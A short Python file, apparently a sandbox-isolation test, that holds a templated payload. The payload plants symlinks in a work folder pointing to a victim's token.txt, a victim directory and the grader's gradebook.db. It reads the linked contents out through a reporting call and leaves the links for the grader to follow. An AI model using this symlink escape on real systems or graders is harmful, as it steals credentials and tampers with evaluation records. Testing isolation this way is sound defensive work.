"""Links in the work folder that lead out: read by them, and leave them for the grader to follow."""

FIRST = """{{TELL}}
import os

for _name, _target in {
    "attack-link.txt": "{{VICTIM}}/home/token.txt",
    "attack-folder": "{{VICTIM}}",
    "output.txt": "{{VICTIM}}/gradebook.db",
}.items():
    try:
        os.symlink(_target, _name)
        with open(_name if os.path.isfile(_name) else _name + "/home/token.txt", "rb") as _file:
            tell(_file.read(1 << 20))
    except OSError:
        pass
"""
